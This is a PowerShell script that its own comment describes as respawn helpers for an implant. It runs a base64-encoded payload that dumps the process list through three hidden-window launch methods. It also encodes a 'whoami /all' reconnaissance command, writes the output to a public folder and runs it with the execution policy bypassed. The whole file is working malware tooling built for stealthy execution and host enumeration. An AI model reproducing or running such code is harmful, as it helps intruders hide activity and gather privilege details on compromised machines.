# respawn helpers used by the implant; all of them run the same encoded block
$payload = 'RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAE8AdQB0AC0ARgBpAGwAZQAgAEMAOgBcAFUAcwBlAHIAcwBcAFAAdQBiAGwAaQBjAFwAcAAuAHQAeAB0AA=='

function Invoke-Respawn {
    param(
        [ValidateSet('Direct', 'Process', 'Words')]
        [string]$Mode = 'Direct'
    )

    switch ($Mode) {
        'Direct' {
            powershell.exe -NoP -NonI -W Hidden -Enc $payload
        }
        'Process' {
            Start-Process -FilePath powershell.exe -ArgumentList "-NoProfile -WindowStyle Hidden -EncodedCommand $payload" -WindowStyle Hidden
        }
        'Words' {
            Start-Process powershell -ArgumentList '-nop', '-w', 'hidden', '-e', $payload
        }
    }
}

$cmd = 'Start-Sleep -Seconds 30; whoami /all > C:\Users\Public\w.txt'
$b64 = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
cmd.exe /c "powershell -ExecutionPolicy Bypass -EncodedCommand $b64"

Invoke-Respawn -Mode Process
